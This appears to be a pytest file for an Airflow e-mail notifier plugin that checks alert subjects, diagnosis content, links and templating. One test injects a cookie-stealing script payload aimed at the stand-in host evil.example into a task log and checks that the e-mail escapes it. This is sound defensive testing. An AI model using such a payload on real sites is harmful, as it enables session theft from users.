"""The e-mail alert end to end: Airflow's SmtpNotifier, wrapped in DagnosticsNotifier, sends the diagnosis to a real
SMTP server on localhost (aiosmtpd), and the message that server received is what these tests read (and print, so
``pytest -s`` shows what on-call would get)."""

from __future__ import annotations

from airflow.providers.smtp.notifications.smtp import SmtpNotifier

from dagnostics_provider.notifications import DagnosticsNotifier
from tests.notifications.conftest import (
    BASE_URL,
    DAG_ID,
    ROOT_CAUSE,
    failure_context,
    html_body,
    raised,
    record,
    save_stored_analysis,
    write_task_log,
)

TASK_PAGE = f"{BASE_URL}/dags/{DAG_ID}/runs/manual__2026-11-25T10%3A00%3A00%2B00%3A00/tasks/load_orders"


def _show(message) -> str:
    body = html_body(message)
    print(f"\n--- received by the SMTP server ---\nSubject: {message['Subject']}\nTo: {message['To']}\n\n{body}\n---")
    return body


def test_the_email_carries_the_stored_diagnosis_and_its_links(store, smtp_server):
    failure_id = record()
    save_stored_analysis(failure_id)
    context = failure_context(raised(ConnectionRefusedError("port 5432 failed: Connection refused")))

    DagnosticsNotifier(SmtpNotifier(to="data-oncall@example.com"), wait_seconds=5)(context)

    (message,) = smtp_server.messages
    body = _show(message)
    assert smtp_server.recipients == [["data-oncall@example.com"]]
    assert message["Subject"].startswith(f"[DAGnostics] {DAG_ID}.load_orders failed: dependency_failure (87%): ")
    assert "psycopg2.OperationalError: connection to server at 10.0.0.5" in message["Subject"]
    assert len(message["Subject"]) <= 150
    assert f"<code>{ROOT_CAUSE}</code>" in body
    assert "dependency_failure (a service, external job, package or runtime the task relies on failed" in body
    assert "<td>87%</td>" in body
    assert "stored analysis by ollama (llama3.2:3b); not reviewed yet" in body
    assert "<li>Check that the warehouse database is up</li>" in body
    assert f'<a href="{TASK_PAGE}?try_number=1">Task log</a>' in body
    assert f'<a href="{TASK_PAGE}/plugin/dagnostics-diagnosis">Diagnosis</a>' in body
    assert f'<a href="{BASE_URL}/pluginsv2/dagnostics/review/{failure_id}">Review</a>' in body


def test_a_script_line_in_the_log_stays_text_in_the_email(store, smtp_server, airflow_settings):
    script = "<script>fetch('https://evil.example/'+document.cookie)</script>"
    write_task_log(
        airflow_settings,
        [
            {"event": "Loading orders"},
            {"level": "error", "event": f"ValueError: bad order id {script}"},
            {"level": "error", "event": "Task failed with exception"},
        ],
    )
    context = failure_context(raised(ValueError(f"bad order id {script}")))

    DagnosticsNotifier(SmtpNotifier(to="data-oncall@example.com"), wait_seconds=0)(context)

    body = _show(smtp_server.messages[0])
    assert "<script>" not in body
    assert "&lt;script&gt;fetch(&#x27;https://evil.example/&#x27;+document.cookie)&lt;/script&gt;" in body
    assert "heuristic analysis computed on the spot" in body


def test_the_users_own_subject_and_body_can_use_the_diagnosis(store, smtp_server):
    save_stored_analysis(record())
    notifier = SmtpNotifier(
        to="data-oncall@example.com",
        subject="{{ ti.task_id }}: {{ dagnostics.category }} at {{ dagnostics.confidence_percent }}",
        html_content="<h1>Orders load failed</h1>{{ dagnostics.html }}<p>Runbook: https://wiki.example/orders</p>",
    )

    DagnosticsNotifier(notifier, wait_seconds=5)(failure_context(raised(ConnectionRefusedError("refused"))))

    (message,) = smtp_server.messages
    body = _show(message)
    assert message["Subject"] == "load_orders: dependency_failure at 87%"
    assert body.startswith("<h1>Orders load failed</h1><div><p><strong>DAGnostics: ")
    assert body.rstrip().endswith("<p>Runbook: https://wiki.example/orders</p>")


def test_one_notifier_serves_every_failure_it_is_called_for(store, smtp_server):
    """Rendering overwrites templated fields: a notifier in default_args must not resend the first alert."""
    alert = DagnosticsNotifier(SmtpNotifier(to="data-oncall@example.com"), wait_seconds=0)

    alert(failure_context(raised(ValueError("first failure")), try_number=1))
    alert(failure_context(raised(KeyError("second failure")), try_number=2))

    first, second = (message["Subject"] for message in smtp_server.messages)
    assert "ValueError: first failure" in first
    assert "KeyError: 'second failure'" in second
